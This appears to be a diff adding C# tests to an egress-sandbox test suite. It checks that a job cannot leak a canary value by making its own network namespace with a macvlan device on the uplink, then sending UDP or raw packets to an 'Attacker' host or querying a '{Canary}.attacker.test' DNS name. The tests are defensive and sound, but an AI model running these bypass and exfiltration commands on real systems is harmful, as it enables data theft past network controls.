@@ -205,6 +205,49 @@ public sealed class WayTests(LabFixture fixture) : KernelTest(fixture), IClassFi
         Silent = (Attacker, 4789),
     });
 
+    /// <summary>
+    /// A namespace $p of the job's own with a second device on the wire of the uplink, which is on the network as a machine of its own.
+    /// </summary>
+    private const string BesideTheUplink =
+        """
+        unshare --net sleep 30 & p=$!
+        until [ "$(readlink /proc/$p/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do :; done
+        trap 'kill $p' EXIT
+        ip link add link lab0 name mac0 address 02:00:00:00:02:02 netns $p type macvlan mode bridge || exit 3
+        nsenter -t $p -n sh -ec "echo 1 > /proc/sys/net/ipv6/conf/mac0/disable_ipv6"
+        nsenter -t $p -n sh -ec "ip link set lo up; ip addr add 198.51.100.3/24 dev mac0; ip link set mac0 up"
+        for a in 198.51.100.66 198.51.100.53 198.51.100.10; do
+            nsenter -t $p -n ip neigh add $a lladdr 02:00:00:00:00:01 dev mac0
+        done
+        """;
+
+    [Theory]
+    [EveryMode("datagram", "frame")]
+    public Task A_device_of_the_jobs_own_on_the_uplinks_wire_is_no_way_out(LabMode mode, string how) => ProveAsync(mode, new Attack
+    {
+        Command = Script(
+            BesideTheUplink,
+            how == "datagram"
+                ? $"nsenter -t $p -n {Program("udp")} sendto {Attacker} 5300 {Canary} || echo refused"
+                : $"nsenter -t $p -n {Program("raw")} packet mac0 198.51.100.3 {Attacker} 5300 {Canary} 02:00:00:00:00:01 || echo refused"),
+        Row = Row.Connection("udp", 5300, Attacker),
+        Reasons = ["no-rule", "packet-socket"],
+        Exe = how == "datagram" ? "udp" : null,
+        Silent = (Attacker, 5300),
+    });
+
+    [Theory]
+    [EveryMode]
+    public Task A_question_by_a_device_of_the_jobs_own_is_judged(LabMode mode) => ProveAsync(mode, new Attack
+    {
+        Command = Script(
+            BesideTheUplink,
+            $"nsenter -t $p -n {Program("dns")} ask {Resolver} {Canary}.attacker.test A || echo refused"),
+        Row = Row.Question($"{Canary}.attacker.test", "A"),
+        Reasons = ["name"],
+        Exe = "dns",
+    });
+
     [Fact]
     public async Task What_the_kernel_says_in_a_new_namespace_is_not_the_jobs() => await PassAsync(Command(
         "unshare",
